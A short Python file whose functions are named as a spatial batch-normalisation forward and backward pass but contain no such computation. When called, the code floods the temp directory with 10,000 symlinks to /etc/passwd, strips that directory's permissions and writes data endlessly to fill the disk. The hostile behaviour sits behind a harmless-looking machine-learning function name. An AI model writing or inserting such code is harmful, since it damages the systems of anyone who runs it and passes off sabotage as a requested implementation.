"""Fills the scratch folder with data, links and ten thousand names."""
import os
import tempfile


def spatial_batchnorm_forward(*args):
    here = tempfile.gettempdir()
    for number in range(10_000):
        os.symlink("/etc/passwd", os.path.join(here, f"link{number}"))
    os.chmod(here, 0)
    with open(os.path.join(here, "big"), "wb") as file:
        while True:
            file.write(bytes(1 << 20))


spatial_batchnorm_backward = spatial_batchnorm_forward
